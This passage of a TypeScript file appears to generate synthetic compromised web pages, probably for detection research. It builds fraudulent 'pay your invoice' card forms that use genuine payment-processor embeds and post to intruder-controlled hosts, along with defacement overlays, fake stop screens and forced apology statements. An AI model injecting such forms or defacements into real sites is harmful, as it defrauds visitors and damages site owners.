  en: (a) => ["Pay your invoice online", `Outstanding balance: ${a}. Pay securely by card now to avoid late fees.`, "Pay now"],
  fr: (a) => ["Réglez votre facture en ligne", `Solde restant dû : ${a}. Payez maintenant par carte pour éviter des frais de retard.`, "Payer"],
  de: (a) => ["Rechnung online bezahlen", `Offener Betrag: ${a}. Jetzt sicher per Karte zahlen und Mahngebühren vermeiden.`, "Jetzt bezahlen"],
  es: (a) => ["Paga tu factura en línea", `Saldo pendiente: ${a}. Paga ahora con tarjeta para evitar recargos.`, "Pagar ahora"],
  nl: (a) => ["Betaal uw factuur online", `Openstaand bedrag: ${a}. Betaal nu veilig met uw kaart om extra kosten te voorkomen.`, "Nu betalen"],
  pt: (a) => ["Pague sua fatura online", `Saldo em aberto: ${a}. Pague agora com cartão para evitar multa por atraso.`, "Pagar agora"],
  it: (a) => ["Paga la tua fattura online", `Saldo da pagare: ${a}. Paga ora con carta per evitare penali.`, "Paga ora"]
}

// Payments on a real processor under someone else's account, recalled from memory, with uncertain sources, of reports (about 2019–2024) on fraudsters and intruders taking card payments through their own Stripe, Square or Braintree merchant accounts on compromised or cloned sites (the processor's fields are genuine, so nothing looks wrong), and of the processors' own embed code (Stripe.js v3 with a publishable key and a card Element, the Square Web Payments SDK with an application and location id, the Braintree Drop-in with a tokenization key): a "pay your invoice online" form built with one of them under the intruder's keys, its intent created on another host.
const processorUnderIntruderKey = fresh18("'pay your invoice online' card form built with a real processor's fields (Stripe Element, Square Web Payments, Braintree Drop-in) under the intruder's keys", (page, rng) => {
  const [h, p, cta] = some(rng, page, payWords)(page.site.locale.money(between(rng, 39, 2400) + pick(rng, [0, 0.5, 0.99])))
  const id = `pay${alnum(rng, 5)}`
  const backend = `https://${pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand), `${alnum(rng, 8)}.${pick(rng, ["workers.dev", "vercel.app", "onrender.com", "herokuapp.com"])}`])}/${pick(rng, ["create-intent", "api/pay", "charge", "checkout"])}`
  const [scripts, mount] = pick(rng, [
    () => [`<script src="https://js.stripe.com/v3/"></script>`, `var s=Stripe(${js(`pk_live_${alnum(rng, 99)}`)}),el=s.elements(),c=el.create("card");c.mount("#${id}c");document.getElementById("${id}").addEventListener("submit",function(e){e.preventDefault();fetch(${js(backend)},{method:"POST"}).then(function(r){return r.json()}).then(function(j){return s.confirmCardPayment(j.client_secret,{payment_method:{card:c}})})});`] as const,
    () => [`<script src="https://web.squarecdn.com/v1/square.js"></script>`, `Square.payments(${js(`sq0idp-${alnum(rng, 22)}`)},${js(`L${upper(rng, 12)}`)}).card().then(function(c){c.attach("#${id}c");document.getElementById("${id}").addEventListener("submit",function(e){e.preventDefault();c.tokenize().then(function(t){fetch(${js(backend)},{method:"POST",body:JSON.stringify({token:t.token})})})})});`] as const,
    () => [`<script src="https://js.braintreegateway.com/web/dropin/1.42.0/js/dropin.min.js"></script>`, `braintree.dropin.create({authorization:${js(`production_${alnum(rng, 8)}_${alnum(rng, 16)}`)},container:"#${id}c"},function(err,d){document.getElementById("${id}").addEventListener("submit",function(e){e.preventDefault();d.requestPaymentMethod(function(x,pl){fetch(${js(backend)},{method:"POST",body:JSON.stringify({nonce:pl.nonce})})})})});`] as const
  ])()
  const form = `<form id="${id}" class="${pick(rng, ["invoice-pay", "pay-online", "quick-pay"])}" style="border:1px solid #ccc;border-radius:8px;padding:16px;max-width:440px;margin:14px 0;font-family:system-ui,Arial,sans-serif"><h3 style="margin-top:0">💳 ${esc(h)}</h3><p>${esc(p)}</p><div id="${id}c" style="min-height:44px;border:1px solid #ddd;padding:10px;border-radius:4px"></div><button type="submit" style="${button(rng, "#635bff")};margin-top:10px">${esc(cta)}</button></form>`
  return splices(insert(someSpot(rng, page), form + scripts + wrapScript(rng, mount)))
})

// ———————————————————————————— blatant defacements ————————————————————————————

const bsodWords: Table<readonly [string, string, string]> = {
  en: ["Your site ran into a problem and needs to restart. We're just collecting some error info, and then we'll restart for you.", "complete", "For more information about this issue and possible fixes, visit"],
  fr: ["Votre site a rencontré un problème et doit redémarrer. Nous collectons simplement des informations relatives aux erreurs, puis nous allons redémarrer.", "effectué", "Pour plus d'informations sur ce problème et les correctifs possibles, visitez"],
  de: ["Auf Ihrer Website ist ein Problem aufgetreten. Sie muss neu gestartet werden. Es werden einige Fehlerinformationen gesammelt, und dann erfolgt ein automatischer Neustart.", "abgeschlossen", "Weitere Informationen zu diesem Problem und möglichen Korrekturen finden Sie unter"],
  es: ["Tu sitio ha tenido un problema y necesita reiniciarse. Solo estamos recopilando información sobre el error y, a continuación, se reiniciará.", "completado", "Para obtener más información sobre este problema y posibles soluciones, visita"],
  pt: ["Seu site teve um problema e precisa ser reiniciado. Estamos apenas coletando algumas informações sobre o erro e, em seguida, reiniciaremos para você.", "concluído", "Para obter mais informações sobre esse problema e possíveis correções, visite"],
  it: ["Si è verificato un problema nel sito ed è necessario riavviarlo. Stiamo raccogliendo alcune informazioni sull'errore, quindi verrà eseguito il riavvio automatico.", "completato", "Per altre informazioni su questo problema e sulle possibili soluzioni, visita"],
  nl: ["Er is een probleem met je site opgetreden en deze moet opnieuw worden opgestart. We verzamelen alleen wat foutinformatie en daarna wordt er opnieuw opgestart.", "voltooid", "Ga voor meer informatie over dit probleem en mogelijke oplossingen naar"]
}

// Fake stop screens, recalled from memory of tech-support-scam pages imitating the Windows "blue screen of death" (Malwarebytes and Microsoft warnings, about 2016–2024), of the real Windows 10/11 stop screen (":(", a percentage, a QR code and a stop code) and the Windows 9x one ("A fatal exception 0E has occurred..."), and, with uncertain sources, of defacers and pranksters borrowing the look after the CrowdStrike outage (July 2024): a stop screen over the site (or as a block in it) whose stop code and "what failed" line name the crew.
const stopScreen = fresh18("fake Windows stop screen ('blue screen of death') over the site whose stop code and failed module name the crew", (page, rng) => {
  const w = who(rng)
  const tag = (slug(w) || "crew").replace(/-/g, "_").toUpperCase()
  const code = pick(rng, [`HACKED_BY_${tag}`, `${tag}_WAS_HERE`, "SECURITY_NOT_FOUND", "ADMIN_PASSWORD_TOO_WEAK", "CRITICAL_SECURITY_DIED", `OWNED_BY_${tag}`])
  const fixed = chance(rng, 0.7)
  const pos = fixed ? "position:fixed;inset:0;z-index:2147483600;overflow:auto" : "margin:0 0 16px"
  const modern = chance(rng, 0.65)
  let html: string
  if (modern) {
    const [p, done, more] = some(rng, page, bsodWords)
    const qr = pick(rng, [`<img src="https://${randomDomain(rng)}/qr/${alnum(rng, 8)}.png" width="110" height="110" alt="" style="background:#fff">`, `<div style="width:110px;height:110px;background:repeating-conic-gradient(#fff 0 25%,#0078d7 0 50%) 0 0/22px 22px;border:6px solid #fff"></div>`])
    html = `<div class="${pick(rng, ["bsod", "stop-screen", "crash"])}" style="${pos};background:${pick(rng, ["#0078d7", "#0a64ad", "#000"])};color:#fff;font-family:'Segoe UI',Arial,sans-serif;padding:${between(rng, 6, 12)}vh ${between(rng, 6, 12)}vw"><div style="font-size:${between(rng, 90, 150)}px;line-height:1">:(</div><p style="font-size:${between(rng, 20, 28)}px;max-width:780px">${esc(p)}</p><p style="font-size:22px">${between(rng, 0, 100)}% ${esc(done)}</p><div style="display:flex;gap:18px;align-items:flex-start">${qr}<div style="font-size:14px"><p>${esc(more)} https://${esc(pick(rng, ["t.me/" + (slug(w) || "crew"), "www.windows.com/stopcode", "zone-h.org"]))}</p><p>Stop code: ${esc(code)}</p><p>What failed: ${esc(tag.toLowerCase())}.sys</p></div></div></div>`
  } else {
    html = `<div class="${pick(rng, ["bsod", "fatal", "crash"])}" style="${pos};background:#0000aa;color:#fff;font-family:'Lucida Console',Courier,monospace;font-size:${between(rng, 15, 20)}px;padding:12vh 10vw"><p style="text-align:center"><span style="background:#aaa;color:#0000aa;padding:0 8px">${pick(rng, ["Windows", esc(w)])}</span></p><p>A fatal exception 0E has occurred at 0028:C0${hex(rng, 6).toUpperCase()} in VXD ${esc(tag.slice(0, 8))}(01) + ${hex(rng, 8).toUpperCase()}. The current application will be terminated.</p><p>*  Press any key to terminate the current application.<br>*  Press CTRL+ALT+DEL again to restart your computer. You will lose any unsaved information in all applications.</p><p>${esc(signature(rng, w).text)}</p><p style="text-align:center">Press any key to continue _</p></div>`
  }
  return splices(insert(fixed ? pick(rng, [top(page), bottom(page)]) : noticeSpot(rng, page), html))
})

// "RIP security", recalled from memory, with uncertain sources, of defacement mirrors (Zone-H, Mirror-H, about 2005–2024) signed "R.I.P. security", "your security is dead" or "rest in pieces, admin", often with a candle or a skull: a tombstone drawn in CSS with the site's host, a born–died date line, "killed by" the crew and a candle, at the top, in the middle or over the page.
const ripSecurity = fresh18("'R.I.P. security' tombstone for the site (born–died dates, 'killed by' the crew, candles) drawn in CSS", (page, rng) => {
  const w = who(rng)
  const epitaph = pick(rng, ["R.I.P.", "REST IN PEACE", "REST IN PIECES", "HUZUR İÇİNDE YAT", "DESCANSE EN PAZ", "REPOSE EN PAIX", "R.I.P"])
  const subject = pick(rng, [`${page.site.host} security`, `Security of ${brandName(page)}`, `${brandName(page)} admin`, "Your security", `${page.site.domain} firewall`])
  const died = page.site.locale.date(someDate(rng))
  const born = between(rng, 1998, 2022)
  const stone = `<div style="width:${between(rng, 220, 320)}px;margin:0 auto;background:linear-gradient(#9e9e9e,#616161);border:4px solid #424242;border-radius:${between(rng, 110, 160)}px ${between(rng, 110, 160)}px 8px 8px;color:#f5f5f5;text-align:center;padding:${between(rng, 40, 60)}px 16px 22px;font-family:Georgia,serif;text-shadow:1px 1px 0 #333"><div style="font-size:${between(rng, 30, 44)}px;letter-spacing:2px">${esc(epitaph)}</div><div style="font-size:17px;margin:10px 0">${esc(subject)}</div><div style="font-size:14px">${born} – ${esc(died)}</div><div style="font-size:13px;margin-top:12px">${esc(pick(rng, ["Killed by", "Murdered by", "Buried by", "Sent to the grave by"]))} ${esc(w)}</div></div><div style="text-align:center;font-size:${between(rng, 26, 40)}px">🕯️ 🥀 🕯️</div>`
  const overlay = chance(rng, 0.35)
  const html = overlay
    ? `<div class="${pick(rng, ["rip", "grave", "memorial"])}" style="position:fixed;inset:0;background:#111;z-index:2147483000;padding-top:12vh">${stone}</div>`
    : `<div class="${pick(rng, ["rip", "grave", "memorial"])}" style="background:${pick(rng, ["#111", "#000", "#222", "transparent"])};padding:24px 0;margin:12px 0">${stone}</div>`
  return splices(insert(overlay ? pick(rng, [top(page), bottom(page)]) : pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), html))
})

// Games in defacements, recalled from memory, with uncertain sources, of defacement mirrors that embedded small Flash and later JavaScript games (a snake, "guess the password") beside a "game over, admin" taunt: a playable canvas snake game or a password-guessing box that always answers with a taunt, headed "GAME OVER" and signed by the crew.
const adminGame = fresh18("playable game for the admin: a canvas snake or a 'guess the admin password' box, headed 'GAME OVER' and signed by the crew", (page, rng) => {
  const w = who(rng)
  const id = `g${alnum(rng, 6)}`
  const taunt = pick(rng, ["GAME OVER, admin", "GAME OVER", "Insert coin to restore your site", "Level 1: your security. Status: defeated", "Player 1 wins"])
  const cells = between(rng, 16, 24)
  const size = pick(rng, [16, 18, 20])
  const wPx = cells * size
  const hPx = Math.floor(cells * 0.75) * size
  const snake = `<canvas id="${id}" width="${wPx}" height="${hPx}" style="border:2px solid #0f0;background:#000"></canvas><p>Score: <span id="${id}s">0</span> · ← ↑ → ↓</p>`
  const snakeCode = `var c=document.getElementById("${id}"),x=c.getContext("2d"),W=${cells},H=${Math.floor(cells * 0.75)},Z=${size},s=[{x:3,y:3}],d={x:1,y:0},f={x:8,y:6},n=0;document.addEventListener("keydown",function(e){var k={37:[-1,0],38:[0,-1],39:[1,0],40:[0,1]}[e.keyCode];if(k){d={x:k[0],y:k[1]};e.preventDefault()}});setInterval(function(){var h={x:(s[0].x+d.x+W)%W,y:(s[0].y+d.y+H)%H};s.unshift(h);if(h.x==f.x&&h.y==f.y){n++;f={x:Math.floor(Math.random()*W),y:Math.floor(Math.random()*H)}}else s.pop();x.fillStyle="#000";x.fillRect(0,0,W*Z,H*Z);x.fillStyle="#0f0";s.forEach(function(p){x.fillRect(p.x*Z,p.y*Z,Z-2,Z-2)});x.fillStyle="#f00";x.fillRect(f.x*Z,f.y*Z,Z-2,Z-2);document.getElementById("${id}s").textContent=n},${between(rng, 90, 160)});`
  const guess = `<form id="${id}" onsubmit="return false"><label>${esc(pick(rng, ["Guess the admin password:", "Enter the admin password to get your site back:", "Password?"]))} <input id="${id}i" autocomplete="off" style="background:#000;color:#0f0;border:1px solid #0f0;padding:4px"></label> <button id="${id}b" style="background:#0f0;color:#000;border:0;padding:5px 10px">${esc(pick(rng, ["Try", "OK", "Enter"]))}</button><p id="${id}o"></p></form>`
  const pw = pick(rng, ["123456", "admin", "admin123", "password", "qwerty", `${page.site.brand.replace(/[^a-z0-9]/gi, "") || "site"}2024`])
  const guessCode = `var t=0;document.getElementById("${id}b").addEventListener("click",function(){t++;document.getElementById("${id}o").textContent=t<3?"WRONG! Tries left: "+(3-t):"GAME OVER. It was "+${js(pw)}+" :)"});`
  const isSnake = chance(rng, 0.6)
  const frame = `<div class="${pick(rng, ["game", "arcade", "play"])}" style="background:#000;color:#0f0;font-family:'Courier New',monospace;text-align:center;padding:16px;margin:${pick(rng, ["12px 0", "0", "20px auto"])};max-width:${wPx + 60}px"><h2 style="margin:4px 0;color:${pick(rng, ["#0f0", "#f00", "#ff0"])}">${esc(taunt)}</h2>${isSnake ? snake : guess}<p style="font-size:12px">${esc(signature(rng, w).text)}</p></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), frame + wrapScript(rng, isSnake ? snakeCode : guessCode)))
})

// Redaction as a protest, recalled from memory, with uncertain sources, of defacements and hacktivist actions against censorship and secrecy laws (Anonymous operations against internet-blocking and surveillance laws in India, Australia, Turkey and elsewhere, about 2012–2016, and blacked-out pages in campaigns against state secrecy): the site's own text blacked out like a redacted document, by one CSS rule, by wrapping its text in black bars or by overwriting it with block characters, with a stamp and the crew's name.
const redactedPage = fresh18("site's text blacked out like a redacted document (CSS rule, black bars or block characters) with a 'CLASSIFIED' or 'CENSORED' stamp and the crew's name", (page, rng) => {
  const w = who(rng)
  const stampText = pick(rng, ["CLASSIFIED", "REDACTED", "CENSORED", "TOP SECRET", "ЗАСЕКРЕЧЕНО", "SANSÜRLENDİ", "CENSURÉ", "ZENSIERT"])
  const stamp = `<div class="${pick(rng, ["stamp", "redacted", "censored"])}" style="position:${pick(rng, ["fixed", "absolute"])};top:${between(rng, 20, 55)}%;left:50%;transform:translate(-50%,-50%) rotate(${between(rng, -22, -6)}deg);border:${between(rng, 4, 8)}px solid #c62828;color:#c62828;font:bold ${between(rng, 40, 80)}px 'Courier New',monospace;padding:6px 26px;z-index:2147483000;opacity:.88;background:rgba(255,255,255,.6);pointer-events:none">${esc(stampText)}<div style="font-size:14px;text-align:center">${esc(pick(rng, ["by order of", "redacted by", "censored by", "—"]))} ${esc(w)}</div></div>`
  const runs = proseRuns(page, 12)
  const mode = runs.length < 3 ? 0 : pick(rng, [0, 1, 2])
  const out: Array<Splice> = [insert(pick(rng, [top(page), bottom(page)]), stamp)]
  if (mode === 0) {
    const sel = pick(rng, ["p,li,dd,td,h1,h2,h3,h4,a,span", "p,li,td,dd", "body *"])
    out.push(insert(pick(rng, [head(page), top(page)]), `<style>${sel}{background:#111!important;color:#111!important;text-shadow:none!important;border-color:#111!important}img{filter:brightness(0)}</style>`))
  } else {
    for (const t of sample(rng, runs, between(rng, Math.min(4, runs.length), Math.min(40, runs.length)))) {
      const r = trimmed(page, t)
      if (r.end <= r.start) continue
      if (mode === 1) {
        out.push(insert(r.start, `<span style="background:#000;color:#000">`), insert(r.end, "</span>"))
      } else {
        const n = Math.min(60, Math.max(4, t.text.trim().length))
        out.push(replace(r, `<span style="letter-spacing:-1px">${"█".repeat(n)}</span>`))
      }
    }
  }
  return { splices: out }
})

const maintenanceWords: Table<readonly [string, string, string]> = {
  en: ["Under maintenance", "We are performing scheduled maintenance. We'll be back online shortly. Thank you for your patience.", "Back in"],
  fr: ["Site en maintenance", "Nous effectuons une maintenance programmée. Le site sera de retour très bientôt. Merci de votre patience.", "Retour dans"],
  de: ["Wartungsarbeiten", "Wir führen planmäßige Wartungsarbeiten durch und sind in Kürze wieder für Sie da. Vielen Dank für Ihre Geduld.", "Zurück in"],
  es: ["En mantenimiento", "Estamos realizando tareas de mantenimiento programadas. Volveremos en breve. Gracias por tu paciencia.", "Volvemos en"],
  nl: ["Onderhoud", "We voeren gepland onderhoud uit en zijn binnenkort weer online. Bedankt voor je geduld.", "Terug over"],
  pt: ["Em manutenção", "Estamos realizando uma manutenção programada. Voltaremos em breve. Obrigado pela paciência.", "Voltamos em"],
  it: ["Sito in manutenzione", "Stiamo effettuando una manutenzione programmata. Torneremo online a breve. Grazie per la pazienza.", "Di nuovo online tra"]
}

// Maintenance mode switched on by an intruder, recalled from memory, with uncertain sources, of WordPress clean-up reports (Wordfence, Sucuri, hosting forums, about 2018–2023) where intruders enabled or installed maintenance and coming-soon plugins (WP Maintenance Mode, SeedProd, Coming Soon Page) so the site showed only a holding page, sometimes with their own tag in a corner: the whole page replaced by such a holding page with a countdown, in the site's language or English, and a small crew mention.
const maintenanceTakeover: ChangeClass = {
  ...fresh18("whole page replaced by a maintenance-mode holding page (countdown, 'we'll be back') switched on by the intruder, with a small crew mention", (page, rng) => {
    const [h, p, back] = some(rng, page, maintenanceWords)
    const w = who(rng)
    const d = between(rng, 0, 9)
    const accent = pick(rng, ["#1e88e5", "#43a047", "#f4511e", "#6d4c41", "#212121", "#8e24aa"])
    const mention = pick(rng, [
      `<p style="font-size:${between(rng, 9, 12)}px;color:#bbb;margin-top:60px">maintenance by ${esc(w)}</p>`,
      `<p style="font-size:11px;color:#999;margin-top:50px">${esc(signature(rng, w).text)} · t.me/${esc(slug(w) || "crew")}</p>`,
      `<footer style="position:fixed;bottom:6px;right:10px;font-size:10px;color:#ccc">${esc(w)}</footer>`
    ])
    const html = `<!DOCTYPE html><html lang="${page.site.locale.lang}"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><meta name="robots" content="noindex"><title>${esc(h)} – ${esc(brandName(page))}</title><style>body{margin:0;font-family:${pick(rng, ["system-ui,sans-serif", "Helvetica,Arial,sans-serif", "Georgia,serif"])};background:${pick(rng, ["#f5f5f5", "#fff", "#eceff1", "#fafafa"])};color:#333;text-align:center}main{max-width:640px;margin:14vh auto;padding:0 20px}.t span{display:inline-block;min-width:64px;margin:4px;padding:10px;background:${accent};color:#fff;border-radius:6px;font-size:26px}</style></head><body><main><div style="font-size:64px">${pick(rng, ["🛠️", "⚙️", "🚧", "🔧"])}</div><h1>${esc(h)}</h1><p>${esc(p)}</p><p>${esc(back)}:</p><div class="t"><span>${d}d</span><span>${between(rng, 0, 23)}h</span><span>${between(rng, 0, 59)}m</span></div>${mention}</main></body></html>`
    return { html }
  }),
  wholePage: true
}

// Pun pages, recalled from memory of Lizard Squad's defacement of Malaysia Airlines' site (January 2015, reported by the BBC and The Guardian): the title "404 - Plane Not Found", a lizard in a top hat and tuxedo, and "Hacked by LIZARD SQUAD – OFFICIAL CYBER CALIPHATE": the whole page replaced by a "404 – <something> not found" pun on the site, a mascot picture from another host and the crew's signature.
const pun404: ChangeClass = {
  ...fresh18("whole page replaced by a '404 – <something> Not Found' pun page with a mascot picture and the crew's signature (Lizard Squad style)", (page, rng) => {
    const w = who(rng)
    const thing = pick(rng, ["Security", "Admin", "Firewall", "Password", "Patch", "Brain", brandName(page), "Backup", "Server", "Website"])
    const pic = `https://${pick(rng, ["i.imgur.com", "i.ibb.co", "i.postimg.cc", randomDomain(rng)])}/${alnum(rng, 7)}.${pick(rng, ["png", "jpg", "gif"])}`
    const bg = pick(rng, ["#fff", "#000", "#111", "#f2f2f2"])
    const fg = bg === "#fff" || bg === "#f2f2f2" ? "#222" : "#eee"
    const html = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>404 - ${esc(thing)} Not Found</title></head><body style="margin:0;background:${bg};color:${fg};font-family:${pick(rng, ["Arial,sans-serif", "'Courier New',monospace", "Impact,sans-serif"])};text-align:center"><h1 style="font-size:${between(rng, 34, 64)}px;margin-top:8vh">404 - ${esc(thing)} Not Found</h1><img src="${pic}" alt="${esc(w)}" style="max-width:${between(rng, 280, 520)}px;width:80%"><h2>${esc(signature(rng, w).text)}</h2>${chance(rng, 0.5) ? `<p>${esc(pick(rng, ["Try again later. Or never.", "Have you tried turning your security on?", "We're sorry, the page you are looking for has been hacked.", "This is what happens when you ignore updates."]))}</p>` : ""}${chance(rng, 0.5) ? `<p style="font-size:12px">${esc(team(rng))}</p>` : ""}</body></html>`
    return { html }
  }),
  wholePage: true
}

// Watermarks, recalled from memory, with uncertain sources, of pranks and defacements imitating the "Activate Windows – Go to Settings to activate Windows" watermark of unactivated copies (a widespread meme since about 2016), pinned in a corner over everything: a translucent two-line watermark in the bottom-right corner naming the crew, that clicks pass through.
const activateWatermark = fresh18("'Activate Windows' style translucent watermark pinned in the bottom-right corner naming the crew ('Go to Telegram to restore your site')", (page, rng) => {
  const w = who(rng)
  const [l1, l2] = pick(rng, [
    [`Activate ${w}`, `Go to t.me/${slug(w) || "crew"} to activate your security.`],
    ["Activate Security", `Go to Settings to activate security. — ${w}`],
    [signature(rng, w).text, `Go to t.me/${slug(w) || "crew"} to restore your site.`],
    [`${brandName(page)} is not activated`, `Contact ${w} to activate your website.`]
  ] as const)
  const html = `<div class="${pick(rng, ["wm", "watermark", "activate"])}" style="position:fixed;right:${between(rng, 20, 70)}px;bottom:${between(rng, 30, 90)}px;z-index:2147483000;pointer-events:none;color:rgba(${pick(rng, ["128,128,128", "100,100,100", "160,160,160"])},.${between(rng, 55, 80)});font-family:'Segoe UI',Arial,sans-serif;text-align:left"><div style="font-size:${between(rng, 20, 28)}px">${esc(l1)}</div><div style="font-size:${between(rng, 13, 16)}px">${esc(l2)}</div></div>`
  return splices(insert(pick(rng, [bottom(page), top(page), slotAt(page.spots, "bottom")]), html))
})

// Parody names, recalled from memory of the defacements of the US Department of Justice site (August 1996, retitled "Department of Injustice") and the CIA site (September 1996, by Swedish hackers, retitled "Central Stupidity Agency"), reported by CNN and others at the time, and of later defacements mocking an organisation through its own name: the organisation's name in the title, the headings and the text replaced by a parody of it, with a mock masthead at the top.
const parodyName = fresh18("organisation's name replaced by a mocking parody in the title, headings and text, with a mock masthead (Department of Injustice, Central Stupidity Agency style)", (page, rng) => {
  const name = brandName(page)
  const parody = pick(rng, [`${name} of Lies`, `Central Stupidity ${name}`, `${name} Propaganda Ministry`, `Department of ${name} Injustice`, `${name}: Now With Zero Security`, `${name} Leaks`, `Ministry of ${name} Nonsense`, `${name} Clown Agency`])
  const out: Array<Splice> = []
  const brand = page.site.brand.replace(/-/g, " ")
  const re = new RegExp(brand.replace(/[.*+?^${}()|[\]\\]/g, "\\$&"), "i")
  const t = page.spots.title
  if (t !== null) {
    const raw = page.html.slice(t.start, t.end)
    const m = brand.length >= 3 ? re.exec(raw) : null
    if (m !== null && !raw.slice(0, m.index + m[0].length).includes("&")) out.push(replace({ start: t.start + m.index, end: t.start + m.index + m[0].length }, esc(parody)))
    else out.push(replace(t, esc(chance(rng, 0.5) ? parody : `${parody} | ${raw.trim().slice(0, 60).replace(/&[^;\s]*$/, "")}`)))
  }
  if (brand.length >= 3) {
    for (const run of sample(rng, page.spots.texts, page.spots.texts.length).slice(0, 400)) {
      if (out.length > 16) break
      const raw = page.html.slice(run.start, run.end)
      const m = re.exec(raw)
      if (m === null || raw.slice(0, m.index + m[0].length).includes("&")) continue
      out.push(replace({ start: run.start + m.index, end: run.start + m.index + m[0].length }, esc(parody)))
    }
  }
  const mast = `<div class="${pick(rng, ["masthead", "banner", "top-bar"])}" style="background:${pick(rng, ["#000", "#b71c1c", "#1a237e", "#33691e"])};color:#fff;text-align:center;padding:${between(rng, 10, 24)}px;font-family:${pick(rng, ["Georgia,serif", "Impact,sans-serif", "Arial Black,sans-serif"])}"><div style="font-size:${between(rng, 26, 48)}px">${esc(parody)}</div><div style="font-size:13px">${esc(pick(rng, [`formerly known as ${name}`, "Official website", "Welcome to the truth", `${signature(rng, who(rng)).text}`]))}</div></div>`
  out.push(insert(top(page), mast))
  return { splices: out }
})

// ———————————————————————————— hacktivist presentations ————————————————————————————

const apologyWords: Table<(org: string, cause: string) => readonly [string, string, string]> = {
  en: (o, c) => [`Official statement from ${o}`, `We, the management of ${o}, sincerely apologise ${c}. We have misled our customers, our partners and the public. We ask for the forgiveness of everyone we have harmed, and we will step down.`, "The Board of Directors"],
  fr: (o, c) => [`Déclaration officielle de ${o}`, `Nous, la direction de ${o}, présentons nos sincères excuses ${c}. Nous avons trompé nos clients, nos partenaires et le public. Nous demandons pardon à toutes les personnes à qui nous avons nui et nous allons démissionner.`, "Le conseil d'administration"],
  de: (o, c) => [`Offizielle Erklärung von ${o}`, `Wir, die Geschäftsführung von ${o}, entschuldigen uns aufrichtig ${c}. Wir haben unsere Kunden, unsere Partner und die Öffentlichkeit getäuscht. Wir bitten alle, denen wir geschadet haben, um Vergebung, und wir treten zurück.`, "Der Vorstand"],
  es: (o, c) => [`Comunicado oficial de ${o}`, `Nosotros, la dirección de ${o}, pedimos sinceras disculpas ${c}. Hemos engañado a nuestros clientes, a nuestros socios y a la opinión pública. Pedimos perdón a todas las personas a las que hemos perjudicado y vamos a dimitir.`, "El Consejo de Administración"],
  nl: (o, c) => [`Officiële verklaring van ${o}`, `Wij, de directie van ${o}, bieden onze oprechte excuses aan ${c}. We hebben onze klanten, partners en het publiek misleid. We vragen iedereen die we schade hebben berokkend om vergeving en we treden af.`, "De Raad van Bestuur"],
  pt: (o, c) => [`Comunicado oficial da ${o}`, `Nós, a direção da ${o}, pedimos sinceras desculpas ${c}. Enganamos nossos clientes, nossos parceiros e o público. Pedimos perdão a todos que prejudicamos e vamos renunciar.`, "O Conselho de Administração"],
  it: (o, c) => [`Comunicato ufficiale di ${o}`, `Noi, la direzione di ${o}, chiediamo sinceramente scusa ${c}. Abbiamo ingannato i nostri clienti, i nostri partner e il pubblico. Chiediamo perdono a tutti coloro a cui abbiamo fatto del male e ci dimetteremo.`, "Il Consiglio di amministrazione"]
}
const apologyCauses: Table<ReadonlyArray<string>> = {
  en: ["for our support of the war and the occupation", "for spreading the government's propaganda", "for lying to our readers for years", "for doing business with a regime that kills its own people", "for handing our customers' data to the secret police"],
  fr: ["pour notre soutien à la guerre et à l'occupation", "pour avoir relayé la propagande du gouvernement", "pour avoir menti à nos lecteurs pendant des années", "pour avoir fait affaire avec un régime qui tue son propre peuple"],
  de: ["für unsere Unterstützung des Krieges und der Besatzung", "für die Verbreitung der Regierungspropaganda", "dafür, dass wir unsere Leser jahrelang belogen haben", "für Geschäfte mit einem Regime, das sein eigenes Volk tötet"],
  es: ["por nuestro apoyo a la guerra y a la ocupación", "por difundir la propaganda del gobierno", "por haber mentido a nuestros lectores durante años", "por hacer negocios con un régimen que mata a su propio pueblo"],
  nl: ["voor onze steun aan de oorlog en de bezetting", "voor het verspreiden van regeringspropaganda", "omdat we onze lezers jarenlang hebben voorgelogen", "voor zakendoen met een regime dat zijn eigen volk doodt"],
  pt: ["pelo nosso apoio à guerra e à ocupação", "por espalhar a propaganda do governo", "por mentir aos nossos leitores durante anos", "por fazer negócios com um regime que mata o seu próprio povo"],
  it: ["per il nostro sostegno alla guerra e all'occupazione", "per aver diffuso la propaganda del governo", "per aver mentito ai nostri lettori per anni", "per aver fatto affari con un regime che uccide il proprio popolo"]
}

// Forced statements, recalled from memory, with uncertain sources, of hacktivist defacements written in the victim's own voice: "statements" and anti-war messages posted on hacked Russian and Belarusian state, media and company sites in 2022 (reported by Reuters, the BBC and others), and earlier fake "official statements" on hacked ministry and company sites: a formal statement in which the organisation "apologises" for its politics and announces its resignation, signed by its board, the crew's tag small or absent.
const forcedApology = fresh18("forced apology in the organisation's own voice ('we, the management, apologise for supporting the war... we will step down') signed by its board, the crew's tag small or absent", (page, rng) => {
  const lang = chance(rng, 0.75) ? page.site.locale.lang : "en"
  const cause = pick(rng, apologyCauses[lang] ?? apologyCauses.en)
  const [h, p, sign] = (apologyWords[lang] ?? apologyWords.en)(brandName(page), cause)
  const tag = pick(rng, ["", "", `<p style="font-size:10px;color:#999;text-align:right">${esc(who(rng))}</p>`, `<p style="font-size:11px;color:#999">#${esc(pick(rng, ["OpRussia", "OpStopTheWar", "OpFreedom", "OpTruth", "OpJustice"]))}</p>`])
  const html = `<section class="${pick(rng, ["statement", "press-statement", "notice"])}" style="border:${pick(rng, ["1px solid #ccc", "2px solid #000", "0"])};background:${pick(rng, ["#fff", "#fafafa", "#fffde7"])};padding:${between(rng, 16, 28)}px;margin:${pick(rng, ["16px 0", "20px auto", "0 0 16px"])};max-width:${between(rng, 620, 900)}px;font-family:${pick(rng, ["Georgia,serif", "Times New Roman,serif", "Arial,sans-serif"])}"><h2 style="margin-top:0">${esc(h)}</h2><p style="font-size:${between(rng, 15, 19)}px">${esc(p)}</p><p><em>— ${esc(sign)}, ${esc(brandName(page))}</em><br><small>${esc(page.site.locale.date(someDate(rng)))}</small></p>${tag}</section>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), top(page), anySlot(rng, page.spots)]), html))
})

const stampWords: Table<ReadonlyArray<string>> = {
  en: ["PROPAGANDA", "FAKE", "LIES", "STATE PROPAGANDA", "DISINFORMATION"], fr: ["PROPAGANDE", "MENSONGE", "FAUX"], de: ["PROPAGANDA", "LÜGE", "FAKE"],
